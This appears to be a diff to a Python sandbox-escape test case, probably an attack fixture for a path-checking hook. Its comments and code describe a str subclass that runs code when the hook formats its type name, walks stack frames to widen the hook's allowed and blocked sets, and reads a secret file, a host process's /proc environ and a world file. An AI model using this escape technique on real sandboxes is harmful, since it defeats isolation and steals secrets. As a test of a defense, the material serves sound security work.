@@ -5,7 +5,6 @@
 # A str subclass whose metaclass makes `__name__` a property: a hook that formats `type(path).__name__` runs it.
 # From inside the hook it walks the frames to the hook's closure cells and widens every root and blocked set,
 # then reads the host's secret, the parent's environment and writes into the repository.
-import os
 import sys
 
 STOLEN = []
@@ -51,7 +50,7 @@ def leak(what):
 def check(**p):
     for attempt in (lambda: open(Sneaky(p["secret_file"])).read(),
                     lambda: open(p["secret_file"]).read(),
-                    lambda: open(f"/proc/{os.getppid()}/environ", "rb").read().decode(errors="replace"),
+                    lambda: open(f"/proc/{p['host_process']}/environ", "rb").read().decode(errors="replace"),
                     lambda: open(p["world_file"]).read()):
         try:
             return leak(attempt())
